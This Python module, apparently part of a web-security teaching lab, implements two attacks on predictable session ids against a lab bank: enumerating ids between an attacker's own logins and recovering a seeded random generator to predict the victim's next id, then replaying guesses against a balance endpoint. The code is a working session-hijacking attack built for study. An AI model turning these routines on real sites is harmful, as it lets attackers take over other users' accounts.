"""Predictable session ids: Mallory works out the id that somebody else was given (CWE-330, ASVS 5.0 7.2.3)."""

import base64
import random
import string
from collections.abc import Iterator

from labs.bench import Visitor

from .attempt import Attempt, Target

__all__ = ["between", "seeded"]

ALPHABET = string.ascii_uppercase + string.ascii_lowercase + string.digits + "-_"  # of base64url, in its order


def between(target: Target, most: int = 200) -> Attempt:
    """Log in before Ana and after her, and try the ids between the two: a counter's, a clock's (CWE-330, CWE-337).

    `most`: guesses before she gives up.
    """
    watch = target.watch()
    before = target.mallory(logged_in=True)
    target.victim.log_in()
    after = target.mallory(logged_in=True)
    name = session_cookie(before)
    return _try(target, name, _ids_between(before.cookies[name], after.cookies[name], most), watch)


def seeded(target: Target, seeds: int = 32_768) -> Attempt:
    """Work out the generator's seed from an id of her own, and with it the ids that come next (CVE-2008-0166).

    The search needs no request at all: `captured["seeds"]` is how many seeds she went through, `tries` the ids that
    she then tried at the bank.
    """
    watch = target.watch()
    mallory = target.mallory(logged_in=True)
    name = session_cookie(mallory)
    target.victim.log_in()
    for seed in range(seeds):
        ids = _stream(seed)
        if any(next(ids) == mallory.cookies[name] for _ in range(4)):
            attempt = _try(target, name, (next(ids) for _ in range(10)), watch)
            attempt.captured["seeds"] = seed + 1
            return attempt
    return Attempt(list(watch), {"seeds": seeds})


def session_cookie(visitor: Visitor) -> str:
    """The name of the cookie that holds the session; a visitor who has logged in knows it."""
    return next(name for name in visitor.cookies if "csrf" not in name)


def _try(target: Target, name: str, ids: Iterator[str], watch) -> Attempt:
    """Present one id after another until one opens an account that is not hers."""
    browser, tries, captured = target.mallory(), 0, {}
    for id in ids:
        tries += 1
        answer = browser.get("/balance", headers={"Cookie": f"{name}={id}"})
        if answer.status == 200 and answer.json()["owner"] != "mallory":
            captured = {"id": id, **answer.json()}
            break
    return Attempt(list(watch), captured, tries)


def _ids_between(first: str, last: str, most: int) -> Iterator[str]:
    """The ids that follow the first, read as a number: decimal where both are, else in base64url."""
    digits = string.digits if (first + last).isdecimal() else ALPHABET
    if not set(first) <= set(digits):
        return  # a signed cookie, for example, is no number
    start, end = _number(first, digits), _number(last, digits)
    for number in range(start + 1, min(end, start + most + 1) if end > start else start + most + 1):
        yield _written(number, digits, len(first))


def _number(text: str, digits: str) -> int:
    number = 0
    for one in text:
        number = number * len(digits) + digits.index(one)
    return number


def _written(number: int, digits: str, length: int) -> str:
    text = ""
    for _ in range(length):
        number, digit = divmod(number, len(digits))
        text = digits[digit] + text
    return text


def _stream(seed: int) -> Iterator[str]:
    """The ids of a server whose generator began with this seed; the course's source is public, so she knows how."""
    generator = random.Random(seed)
    while True:
        yield base64.urlsafe_b64encode(generator.randbytes(32)).rstrip(b"=").decode()
